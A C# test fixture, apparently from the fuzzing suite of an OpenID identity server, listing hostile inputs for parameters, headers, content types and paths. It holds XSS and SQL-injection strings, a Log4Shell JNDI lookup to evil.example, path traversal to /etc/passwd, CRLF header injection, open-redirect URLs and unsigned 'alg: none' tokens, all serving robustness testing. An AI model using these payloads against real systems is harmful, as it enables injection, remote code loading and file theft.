namespace IdentityHub.OpenId.Tests.Fuzzing;

/// <summary>What a parameter or header may hold when somebody means ill, as it goes over the wire.</summary>
internal static class NastyValues
{
    public static readonly string[] Any =
    [
        "", "%", "%0", "%zz", "%00", "a%00b", "%u0041", "%c3%28", "%c0%af", "%ed%a0%80", "%f4%90%80%80", "%ff%fe", "%ef%bb%bf", "\xff\xfe", "\xc3\x28", "%e2%80%ae", "%f0%9f%92%a9",
        "%0d%0aX-Injected:%201", "%0aX-Injected:%201", "%e5%98%8a%e5%98%8dX-Injected:%201", "+", "++", "%20", "%09", ";", "=", "==", "&", "&&", "%26", "%3d", "?", "#", "%23",
        "%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "'%20OR%201=1--", "%27%3B%20DROP%20TABLE%20users%3B--", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D",
        "{{7*7}}", "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "null", "undefined", "NaN", "true", "0", "-1", "1", "2147483648", "-2147483649", "9223372036854775808",
        "99999999999999999999999999", "1e400", "0x10", "1.5", "%D9%A1%D9%A2", "[]", "{}", "{", "[", "[[]]", "%22", "%5B%22a%22%5D", "%7B%22userinfo%22:null%7D",
        "%7B%22id_token%22:%7B%22acr%22:%7B%22essential%22:true,%22values%22:%5B1,null,%7B%7D%5D%7D%7D%7D", "%7B%22id_token%22:%5B%5D,%22userinfo%22:%22x%22%7D",
        "%7B%22userinfo%22:%7B%22sub%22:%7B%22value%22:5%7D%7D%7D", "e30.e30.", "eyJhbGciOiJub25lIn0.e30.", "eyJhbGciOiJIUzI1NiJ9.e30.AAAA", "eyJhbGciOiJFUzI1NiIsImtpZCI6bnVsbH0.bnVsbA.AAAA",
        "eyJhbGciOiJSUzI1NiIsImVuYyI6IkExMjhHQ00ifQ....", "eyJhbGciOiJkaXIiLCJlbmMiOiJBMTI4R0NNIn0..AAAA.AAAA.AAAA", "....", ".", "..", "a.b", "a.b.c", "a.b.c.d.e", "!!!.!!!.!!!",
        "https://evil.example/", "//evil.example", "https:evil.example", "%5c%5cevil.example", "/%5cevil.example", "javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://", "http://[::1", "http://%00/",
        "https://evil.example%2f@127.0.0.1:9999/cb", "http://127.0.0.1:9999/cb%23", "http://127.0.0.1:9999/cb%00", "http://127.0.0.1:9999/cb%0d%0aX-Injected:%201", "http://127.0.0.1:9999/cb?",
        "urn:ietf:params:oauth:request_uri:", "urn:ietf:params:oauth:request_uri:AAAA", "urn:ietf:params:oauth:request_uri:%00", "urn:ietf:params:oauth:grant-type:device_code",
        "urn:ietf:params:oauth:grant-type:token-exchange", "urn:ietf:params:oauth:grant-type:jwt-bearer", "urn:openid:params:grant-type:ciba", "password", "implicit", "refresh_token", "client_credentials",
        "authorization_code", "code", "code%20code", "none", "none%20login", "login%20login", "consent", "create", "select_account", "query", "form_post", "fragment", "query.jwt", "web_message",
        "plain", "S256", "openid", "openid%20openid", "offline_access", "openid%20%20email", "OPENID", "acc_00000000000000000000000000", "ses_x", "gpid_x", "demo-web", "nobody", "*",
    ];

    public static readonly string[] Authorizations =
    [
        "", "Basic", "Basic ", "Basic !", "Basic =", "Basic YQ==", "Basic OmE=", "Basic YTo=", "Basic Og==", "Basic AAAA", "Basic /////w==", "Basic wyg6wyg=", "Basic JTAwOiUwMA==", "Basic JXp6OiV6eg==",
        "Basic ZGVtby13ZWI6d3Jvbmc=", "basic ZGVtby13ZWI6ZGVtby13ZWItc2VjcmV0", "Basic  ZGVtby13ZWI6ZGVtby13ZWItc2VjcmV0", "Bearer", "Bearer ", "Bearer a b", "Bearer e30.e30.", "Bearer eyJhbGciOiJub25lIn0.e30.",
        "Bearer ....", "Bearer \xff", "bearer null", "DPoP", "DPoP x", "DPoP eyJhbGciOiJub25lIn0.e30.", "Digest username=\"x\"", "Negotiate AAAA", "Mutual", "\xc3\x28", "Basic\tYTpi", "Bearer,Basic YTpi",
    ];

    public static readonly string[] ContentTypes =
    [
        "application/json", "application/json; charset=utf-16", "text/plain", "text/html", "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=x",
        "multipart/form-data; boundary=\"\xff\"", "multipart/form-data; boundary=0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789", "application/x-www-form-urlencoded; charset=utf-7", "application/x-www-form-urlencoded; charset=utf-16",
        "application/x-www-form-urlencoded; charset=bogus", "application/x-www-form-urlencoded;", "APPLICATION/X-WWW-FORM-URLENCODED", "application/x-www-form-urlencoded, text/plain", "application/jwt", "/", "x", "",
        "application/grpc", "application/octet-stream", "application/x-www-form-urlencoded; charset=\"", "\xff/\xfe",
    ];

    public static readonly string[] Methods = ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "FOO", "get", "CONNECT"];

    public static readonly (string Name, string Value)[] Headers =
    [
        ("Host", "evil.example"), ("Host", ""), ("Host", "127.0.0.1:1"), ("Host", "[::1]:99999"), ("Host", "a b"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "javascript"), ("X-Forwarded-For", "' OR 1=1"),
        ("X-Forwarded-Prefix", "//evil.example"), ("Forwarded", "for=\"[::1\";host=evil.example"), ("Origin", "https://evil.example"), ("Origin", "null"), ("Origin", "\xff"), ("Referer", "javascript:alert(1)"),
        ("Accept", "text/html"), ("Accept", "text/html;q=x"), ("Accept", "application/token-introspection+jwt"), ("Accept", "\xff"), ("Accept-Language", "de;q=99999999999"), ("Accept-Language", "\xff\xfe"),
        ("Accept-Language", "../../etc/passwd"), ("Accept-Encoding", "gzip;q=NaN"), ("Content-Encoding", "gzip"), ("DPoP", "x"), ("DPoP", "eyJhbGciOiJub25lIn0.e30."), ("DPoP", "e30.e30.e30"), ("DPoP", "\xff"),
        ("X-Client-Cert", "x"), ("X-SSL-Client-Cert", "-----BEGIN"), ("X-HTTP-Method-Override", "DELETE"), ("Cookie", "hub.session=x"), ("Cookie", "hub.session=CfDJ8AAAA"), ("Cookie", "\xff=\xfe; ; =; a"),
        ("Cookie", "hub.antiforgery=x; hub.session=%00"), ("User-Agent", ""), ("User-Agent", "\xff\xfe<script>"), ("If-None-Match", "*"), ("If-Modified-Since", "yesterday"), ("Range", "bytes=0-,-1"), ("Expect", "100-continue"),
        ("Upgrade", "h2c"), ("Connection", "Upgrade"), ("Transfer-Encoding", "identity"), ("Traceparent", "00-x"), ("Access-Control-Request-Method", "POST"), ("Access-Control-Request-Headers", "*"),
    ];

    public static readonly string[] Paths = ["/", "//", "/.", "/%2e%2e/", "%00", "%2f", ";x=1", "/index.html", "%ff", "\xff", "?", "/../admin/clients", "\\", "%5c"];
}
